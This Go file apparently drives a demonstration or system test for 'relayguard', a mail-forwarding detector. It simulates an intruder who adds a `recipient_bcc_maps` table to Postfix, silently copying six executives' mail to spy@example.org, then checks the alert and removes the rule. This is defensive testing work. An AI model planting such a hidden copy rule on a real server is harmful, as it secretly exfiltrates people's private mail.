package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"

	"relayguard/forward"
	"relayguard/mta/postfix/postfixtest"
	"relayguard/systemtest/relay"
)

// The intruder's rules: the mail of six people is copied to an address outside.
const (
	collector    = "spy@example.org"
	letterNumber = 3000
)

var spiedOn = []string{"ceo", "director", "finance", "legal", "loans", "hr"}

// forwardConfig is what the guard needs for this act: a machine to tell, and a place
// of its own for what it knows. Of this machine it reads only what the private
// Postfix uses.
func forwardConfig(dir, webhook string) string {
	return fmt.Sprintf("\n[forward]\ndirectory = %q\ndovecot = \"\"\nsendmail = \"\"\n\n[alert]\nsyslog = false\nwebhook = %q\n", dir, webhook)
}

// spy plays an intruder on the mail server itself, who has mail copied to the
// outside.
func spy(ctx context.Context, a *admin, p *pager) error {
	ctx, cancel := context.WithTimeout(ctx, time.Minute)
	defer cancel()
	a.out.title("An intruder changes the mail server's settings")
	if _, err := p.wait(ctx, func(g *page) bool { return g.Detail.Kind == "baseline" }); err != nil { // what comes later is new
		return err
	}
	began := time.Now()
	table, err := plant(ctx, a.relay.Postfix)
	if err != nil {
		return err
	}
	a.out.say("a table and one line in main.cf: mail of %d people is copied to\n%s", len(spiedOn), collector)
	alert, err := p.wait(ctx, tellsOf(spiedOn[0]+"@example.jp")) // each is told: it is a rule of the server
	if err != nil {
		return err
	}
	a.out.say("\n%.1f s after the first line was written, on another machine (alert.webhook):", time.Since(began).Seconds())
	a.out.detail("%s", alert.Text)
	id := ""
	for _, f := range alert.Detail.Forwards {
		if f.Owner == spiedOn[0]+"@example.jp" {
			id = forward.ShortID(f.ID)
		}
	}
	if id == "" {
		a.wrong("EXPECTED an alert about the rule of %s", spiedOn[0])
		return nil
	}
	if err := leak(ctx, a, id); err != nil {
		return err
	}
	for _, o := range []order{
		{why: "whose mail, and where to?", args: []string{"forwards", "list", "--due"}, exit: 1, says: []string{"ceo@example.jp", collector, "ALERT", id}},
		{why: "since when, how much, and what is not known?", args: []string{"forwards", "show", id, "--report"}, says: []string{filepath.Base(table), "server, role, fan_in", "1 distinct", "not known"}},
	} {
		if err := a.command(ctx, o); err != nil {
			return err
		}
	}
	return unplant(ctx, a)
}

// tellsOf wants the alert about new rules of owners whose names end so.
func tellsOf(domain string) func(*page) bool {
	return func(g *page) bool {
		for _, f := range g.Detail.Forwards {
			if g.Detail.Kind == "appeared" && strings.HasSuffix(f.Owner, domain) {
				return true
			}
		}
		return false
	}
}

// plant is what the intruder does.
func plant(ctx context.Context, p *postfixtest.Postfix) (table string, err error) {
	table = filepath.Join(p.ConfigDir, "archive")
	var b strings.Builder
	for _, who := range spiedOn {
		fmt.Fprintf(&b, "%s@example.jp %s\n", who, collector)
	}
	err = os.WriteFile(table, []byte(b.String()), 0o644)
	if err == nil {
		_, err = p.Command(ctx, "postconf", "-e", "recipient_bcc_maps = texthash:"+table)
	}
	if err == nil {
		_, err = p.Command(ctx, "postfix", "reload")
	}
	return table, err
}

// leak has a customer write to one of them, and waits until the log has told the
// guard where the copy went.
func leak(ctx context.Context, a *admin, id string) error {
	to := spiedOn[0] + "@example.jp"
	letter := act{service: relay.Inbound, client: "192.0.2.80", from: customer, to: []string{to}, header: "From: A customer <" + customer + ">\nTo: " + to + "\n"}
	if refused, err := letter.send(ctx, a.relay, letterNumber); err != nil || refused > 0 {
		return errors.Join(fmt.Errorf("a letter to %s: %d recipients refused", to, refused), err)
	}
	for _, at := range []string{to, collector} {
		if _, err := arrived(ctx, a.relay, at, messageID(letterNumber)); err != nil {
			return err
		}
	}
	a.out.say("\n%s writes to %s, and the copy reaches\n%s", customer, to, collector)
	return until(ctx, a, []string{"forwards", "show", id}, func(stdout string) bool {
		var shown struct{ Evidence struct{ Mails int } }
		return json.Unmarshal([]byte(stdout), &shown) == nil && shown.Evidence.Mails == 1
	})
}

// unplant takes the rule away where it stands: the guard changes nothing itself.
func unplant(ctx context.Context, a *admin) error {
	a.out.prompt("out with it: the guard changes no settings, the admin does", "postconf -X recipient_bcc_maps && postfix reload")
	_, err := a.relay.Command(ctx, "postconf", "-X", "recipient_bcc_maps")
	if err == nil {
		_, err = a.relay.Command(ctx, "postfix", "reload")
	}
	if err != nil {
		return err
	}
	var left []string
	if err := until(ctx, a, []string{"forwards", "list", "--target", collector}, func(stdout string) bool {
		var listed struct{ Findings []struct{ Owner string } }
		if json.Unmarshal([]byte(stdout), &listed) != nil {
			return false
		}
		left = left[:0]
		for _, f := range listed.Findings {
			left = append(left, f.Owner)
		}
		return !slices.ContainsFunc(left, func(owner string) bool { return strings.HasSuffix(owner, "@example.jp") })
	}); err != nil {
		return fmt.Errorf("%w; still there: %s", err, strings.Join(left, ", "))
	}
	return a.command(ctx, order{why: "gone, and remembered", args: []string{"forwards", "list", "--target", collector, "--gone"}, says: []string{"ceo@example.jp", "gone"}})
}

// until runs a command with --json again and again until its answer is as wanted.
func until(ctx context.Context, a *admin, args []string, wanted func(stdout string) bool) error {
	tick := time.NewTicker(100 * time.Millisecond)
	defer tick.Stop()
	for {
		result, err := a.relay.Relayguard(ctx, append(args, "--json")...)
		if err != nil {
			return err
		}
		if wanted(result.Stdout) {
			return nil
		}
		select {
		case <-ctx.Done():
			return fmt.Errorf("wait for what relayguard %s says: %w", strings.Join(args, " "), ctx.Err())
		case <-tick.C:
		}
	}
}
